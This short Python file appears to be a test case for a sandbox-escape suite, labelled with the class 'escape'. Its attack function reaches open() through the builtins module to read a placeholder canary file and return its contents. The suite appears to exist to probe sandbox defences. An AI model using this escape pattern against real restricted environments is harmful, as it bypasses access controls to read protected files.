# desc: the builtins as a module
# class: escape
# wins: told
import builtins

def attack(state):
    return "L2:" + builtins.open("@CANARY@").read()
